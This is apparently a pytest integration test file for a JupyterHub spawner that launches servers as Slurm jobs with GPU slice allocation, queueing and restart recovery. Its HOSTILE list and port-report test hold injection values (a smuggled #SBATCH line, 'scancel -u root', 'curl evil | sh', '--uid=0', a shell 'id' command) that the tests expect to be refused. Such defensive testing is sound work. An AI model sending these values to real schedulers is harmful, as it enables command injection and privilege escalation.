"""Servers as real Slurm jobs, through a real hub, as real unix users.

One private cluster (munged, slurmctld, slurmd) for the module with fake MIG devices
whose gres types carry NVML-derived names, so the site's type mapping is exercised:
two ``nvidia_h100_80gb_hbm3_1g.10gb`` and one ``..._3g.40gb``. The hub's declared
inventory also has a 2g.20gb that the cluster lacks (a job that can never run)."""

from __future__ import annotations

import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
import requests

from spawners.ledger.ledger import Ledger
from tests.backends.engines import NV, progress_messages, slurm_hub_for, stop_all_servers
from tests.support.hub import Hub, wait_for
from tests.support.slurm import SlurmCluster

pytestmark = pytest.mark.integration


@pytest.fixture
def hub(slurm_hub: Hub, slurm_cluster: SlurmCluster) -> Iterator[Hub]:
    yield slurm_hub
    stop_all_servers(slurm_hub)
    slurm_cluster.cancel_all()


@pytest.fixture
def cluster(slurm_cluster: SlurmCluster) -> SlurmCluster:
    return slurm_cluster


def _ledger_record(hub: Hub, allocation_id: int):
    ledger = Ledger(f"sqlite:///{hub.data / 'ledger.sqlite'}")
    try:
        return ledger.get(allocation_id)
    finally:
        ledger.dispose()


def _job_of(hub: Hub, user: str) -> str:
    [allocation] = [a for a in hub.allocations() if a["user"] == user]
    record = _ledger_record(hub, allocation["id"])
    assert record.engine_ref and record.engine_ref.startswith("slurm:")
    return record.engine_ref[6:]


def _batch_script(cluster: SlurmCluster, job_id: str) -> str:
    return cluster.run("scontrol", "write", "batch_script", job_id, "-").stdout


def _job_environ(job_id: str) -> dict[str, str]:
    """The environment of the job's single-user server process (root reads /proc)."""
    marker = f"SLURM_JOB_ID={job_id}\0".encode()
    for entry in Path("/proc").iterdir():
        try:
            raw = (entry / "environ").read_bytes()
        except OSError:
            continue
        if marker in raw and b"JUPYTERHUB_API_TOKEN=" in raw:
            pairs = (item.split(b"=", 1) for item in raw.split(b"\0") if b"=" in item)
            return {k.decode(): v.decode() for k, v in pairs}
    raise AssertionError(f"no process of job {job_id}")


def test_server_is_a_job_of_the_user_holding_exactly_its_gres(
    hub: Hub, cluster: SlurmCluster
) -> None:
    user = "sbxslurm1"
    r = hub.spawn(user, {"image": "vision", "slice": "1g.10gb"})
    assert r.status_code in (201, 202), r.text
    hub.wait_ready(user, timeout=90)

    job_id = _job_of(hub, user)
    [job] = [j for j in cluster.jobs() if j["id"] == job_id]
    assert job["user"] == user and job["state"] == "RUNNING"
    assert job["gres"] == f"gres:gpu:{NV}1g.10gb:1"
    detail = cluster.show_job(job_id)
    assert f"GRES=gpu:{NV}1g.10gb:1(IDX:" in detail
    assert "Partition=gpu" in detail and "Comment=sandbox-allocation-" in detail

    # Inside the server: the slice, and the device Slurm granted.
    inside = hub.slice_from_inside(user)
    env = inside["environment"]
    assert env["SANDBOX_SLICE"] == "1g.10gb" and env["SANDBOX_IMAGE"] == "vision"
    assert env["CUDA_VISIBLE_DEVICES"] in {"0", "1"}
    # The ledger recorded the request's job and what Slurm granted.
    [allocation] = hub.allocations()
    assert allocation["device_uuid"] == (
        f"slurm:{cluster.node}:gpu:{NV}1g.10gb:{env['CUDA_VISIBLE_DEVICES']}"
    )
    assert allocation["state"] == "active"

    # The batch script holds the typed values and nothing else.
    script = _batch_script(cluster, job_id)
    assert f"#SBATCH --gres=gpu:{NV}1g.10gb:1\n" in script
    assert "#SBATCH --partition=gpu\n" in script
    assert script.count("#SBATCH --gres") == 1 and "{{" not in script

    hub.stop_server(user)
    wait_for(lambda: not cluster.jobs(), 30, "the job to end")
    assert hub.allocations() == []


def test_cpu_server_requests_no_gres(hub: Hub, cluster: SlurmCluster) -> None:
    user = "sbxslurm2"
    assert hub.spawn(user, {"image": "base", "slice": "cpu"}).status_code in (201, 202)
    hub.wait_ready(user, timeout=90)
    job_id = _job_of(hub, user)
    assert [j["gres"] for j in cluster.jobs() if j["id"] == job_id] == ["N/A"]
    assert "--gres" not in _batch_script(cluster, job_id)
    assert hub.slice_from_inside(user)["environment"]["CUDA_VISIBLE_DEVICES"] == ""


HOSTILE = [
    {"image": "base", "slice": "1g.10gb", "gres": "gpu:7g.80gb:8"},
    {"image": "base", "slice": "1g.10gb", "partition": "admin", "qos": "high"},
    {"image": "base", "slice": "1g.10gb\n#SBATCH --gres=gpu:8"},
    {"image": "base;scancel -u root", "slice": "1g.10gb"},
    {"image": "base", "slice": "1g.10gb", "prologue": "curl evil | sh", "options": "--uid=0"},
    {"image": "{{gres}}", "slice": "1g.10gb"},
]


@pytest.mark.parametrize("options", HOSTILE)
def test_hostile_options_never_reach_sbatch(hub: Hub, cluster: SlurmCluster, options) -> None:
    r = hub.spawn("sbxslurm3", options)
    assert r.status_code == 400, r.text
    assert cluster.jobs() == []
    assert hub.allocations() == []


def test_port_report_accepts_only_a_port(hub: Hub, cluster: SlurmCluster) -> None:
    """batchspawner's handler would set any attribute a server's token names."""
    user = "sbxslurm1"
    assert hub.spawn(user, {"image": "base", "slice": "cpu"}).status_code in (201, 202)
    hub.wait_ready(user, timeout=90)
    token = _job_environ(_job_of(hub, user))["JUPYTERHUB_API_TOKEN"]
    url = f"{hub.url}/hub/api/batchspawner"
    headers = {"Authorization": f"token {token}"}
    for body in (
        {"cmd": ["/bin/sh", "-c", "id"]},
        {"port": 8888, "partition": "admin"},
        {"gres_types": {"1g.10gb": "7g.80gb"}},
        {"port": "8888"},
        {"port": True},
    ):
        assert requests.post(url, json=body, headers=headers, timeout=10).status_code == 400
    assert requests.post(url, json={"port": 1}, timeout=10).status_code == 403
    # The server still answers at the port it reported.
    assert hub.slice_from_inside(user)["environment"]["SANDBOX_SLICE"] == "cpu"


def test_a_slice_the_cluster_lacks_is_refused_clearly(hub: Hub, cluster: SlurmCluster) -> None:
    r = hub.spawn("sbxslurm2", {"image": "base", "slice": "2g.20gb"})
    assert r.status_code == 409, r.text
    assert "no node that can run a 2g.20gb slice" in r.json()["message"]
    assert cluster.jobs() == [] and hub.allocations() == []


def test_busy_gres_queues_with_its_position_then_starts(hub: Hub, cluster: SlurmCluster) -> None:
    blocker = cluster.hold_gres(f"gpu:{NV}1g.10gb:2")
    user = "sbxslurm2"
    r = hub.spawn(user, {"image": "base", "slice": "1g.10gb"})
    # (JupyterHub answers 201 instead of 202 when it replaced a failed spawner.)
    assert r.status_code in (201, 202), r.text
    assert not hub.server(user)["ready"]
    seen = progress_messages(hub, user, lambda m: m.startswith("pending:"))
    assert seen[-1].startswith("pending: waiting for a 1g.10gb slice, position 1")
    assert [a["state"] for a in hub.allocations()] == ["reserved"]

    cluster.run("scancel", blocker)
    hub.wait_ready(user, timeout=90)
    assert hub.slice_from_inside(user)["environment"]["CUDA_VISIBLE_DEVICES"] in {"0", "1"}


def test_cancelled_job_gives_everything_back(hub: Hub, cluster: SlurmCluster) -> None:
    user = "sbxslurm3"
    assert hub.spawn(user, {"image": "base", "slice": "3g.40gb"}).status_code in (201, 202)
    hub.wait_ready(user, timeout=90)
    job_id = _job_of(hub, user)
    cluster.run("scancel", job_id)
    wait_for(lambda: hub.server(user) is None, 30, "the hub to notice the cancelled job")
    assert hub.allocations() == []
    assert hub.inventory()["free"]["3g.40gb"] == 1
    # A job that ended is not a node that failed: nobody is told of a lost node.
    assert f"Slurm job {job_id} of {user} lost node" not in hub.log_path.read_text(errors="replace")


def test_job_survives_a_hub_restart(hub: Hub, cluster: SlurmCluster) -> None:
    user = "sbxslurm1"
    assert hub.spawn(user, {"image": "speech", "slice": "1g.10gb"}).status_code in (201, 202)
    hub.wait_ready(user, timeout=90)
    before = hub.allocations()
    job_id = _job_of(hub, user)

    hub.kill_hub_only()
    hub.start()

    assert hub.allocations() == before
    assert any(j["id"] == job_id and j["state"] == "RUNNING" for j in cluster.jobs())
    assert hub.server(user)["ready"]
    assert hub.slice_from_inside(user)["environment"]["SANDBOX_SLICE"] == "1g.10gb"


def test_busy_gres_is_refused_when_the_site_says_so(slurm_cluster: SlurmCluster, tmp_path) -> None:
    cluster = slurm_cluster
    hub = slurm_hub_for(tmp_path, cluster, "refuse")
    blocker = cluster.run(
        "sbatch", "--parsable", f"--gres=gpu:{NV}3g.40gb:1", "-o", "/dev/null",
        "--wrap", "sleep 600",
    ).stdout.strip()  # fmt: skip
    try:
        hub.start()
        r = hub.spawn("sbxslurm1", {"image": "base", "slice": "3g.40gb"})
        if r.status_code == 202:
            wait_for(lambda: hub.server("sbxslurm1") is None, 60, "the refusal")
            message = hub.log_path.read_text(errors="replace")  # the spawn's error
        else:
            message = r.json()["message"]
        assert r.status_code in (202, 409), r.text
        assert "No 3g.40gb slice is free on the cluster right now" in message
        wait_for(lambda: [j["id"] for j in cluster.jobs()] == [blocker], 30, "the job to go")
        assert hub.allocations() == []
    finally:
        hub.stop()
        subprocess.run(["scancel", blocker], env=cluster.env, check=False)


def test_restart_cleans_up_what_slurm_no_longer_runs(hub: Hub, cluster: SlurmCluster) -> None:
    """At start-up the hub asks squeue: a job cancelled while it was down gives its slice
    back; a spawn still queued when it died is cancelled and its reservation released."""
    assert hub.spawn("sbxslurm1", {"image": "base", "slice": "1g.10gb"}).status_code in (201, 202)
    hub.wait_ready("sbxslurm1", timeout=90)
    running_job = _job_of(hub, "sbxslurm1")
    blocker = cluster.run(
        "sbatch", "--parsable", f"--gres=gpu:{NV}3g.40gb:1", "-o", "/dev/null",
        "--wrap", "sleep 600",
    ).stdout.strip()  # fmt: skip
    assert hub.spawn("sbxslurm2", {"image": "base", "slice": "3g.40gb"}).status_code in (201, 202)
    progress_messages(hub, "sbxslurm2", lambda m: m.startswith("pending:"))
    pending_job = _job_of(hub, "sbxslurm2")

    hub.kill_hub_only()
    cluster.run("scancel", running_job)
    wait_for(lambda: running_job not in {j["id"] for j in cluster.jobs()}, 30, "the cancel")
    hub.start()

    assert hub.allocations() == []
    wait_for(lambda: {j["id"] for j in cluster.jobs()} == {blocker}, 30, "the queued job to go")
    log = hub.log_path.read_text(errors="replace")
    assert "(server gone)" in log and "(pending spawn of an earlier hub)" in log
    assert pending_job != blocker


def test_a_user_without_a_unix_account_is_told_so(hub: Hub, cluster: SlurmCluster) -> None:
    r = hub.spawn("nounixaccount", {"image": "base", "slice": "1g.10gb"})
    assert r.status_code == 500, r.text
    assert "no unix account for you" in r.json()["message"]
    assert cluster.jobs() == [] and hub.allocations() == []
